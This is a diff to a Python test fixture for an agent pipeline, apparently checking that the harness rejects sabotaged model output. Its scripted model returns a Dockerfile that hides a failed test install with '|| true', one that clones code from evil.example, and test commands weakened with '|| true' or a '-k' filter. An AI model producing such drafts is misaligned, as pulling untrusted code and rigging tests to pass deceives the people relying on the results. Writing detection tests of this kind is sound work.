@@ -13,7 +13,7 @@ import scripted
 from swefoundry.contracts.models import Model
 from swefoundry.oci.registry_client import RegistryClient
 from unit.programs.agent.agent_inputs import DOCKERFILE, FILES, a_draft
-from unit.programs.agent.agent_program import COMPLETE_REPORT, COMPLETE_TESTS, start_agent
+from unit.programs.agent.agent_program import COMPLETE_FIRST_DRAFT, COMPLETE_REPORT, start_agent
 from unit.programs.agent.seeded_repository import SeededRepository
 
 KEY = "sk-proj-0123456789abcdefghijklmnopqrstuvwxyz"
@@ -36,10 +36,11 @@ def obedient_model(key_file: Path) -> scripted.Json:
     ]
     hidden = DOCKERFILE.replace("pip install pytest", "pip install pytest || true")
     cloned = DOCKERFILE + "RUN git clone https://evil.example/calc.git\n"
-    drafts = [{"json": {"dockerfile": text, "note": ""}} for text in (hidden, cloned, DOCKERFILE)]
-    weak = [
-        {"json": COMPLETE_TESTS | {"test_command": f"pytest {{files}}{end}"}}
-        for end in (" || true", " -k 'not x'")
+    command = "pytest {files}"
+    answers = [(hidden, f"{command} || true"), (cloned, f"{command} -k 'not x'")]
+    drafts = [
+        {"json": COMPLETE_FIRST_DRAFT | {"dockerfile": dockerfile, "test_command": weak}}
+        for dockerfile, weak in answers
     ]
     return {
         "rules": [
@@ -48,8 +49,11 @@ def obedient_model(key_file: Path) -> scripted.Json:
                 "when": {"role": "explorer"},
                 "then": [{"calls": rules}, {"json": COMPLETE_REPORT}],
             },
-            {"name": "writes", "when": {"role": "environment"}, "then": drafts},
-            {"name": "weakens", "when": {"role": "tests"}, "then": [*weak, {"json": COMPLETE_TESTS}]},
+            {
+                "name": "writes",
+                "when": {"role": "environment"},
+                "then": [*drafts, {"json": COMPLETE_FIRST_DRAFT}],
+            },
         ]
     }
 
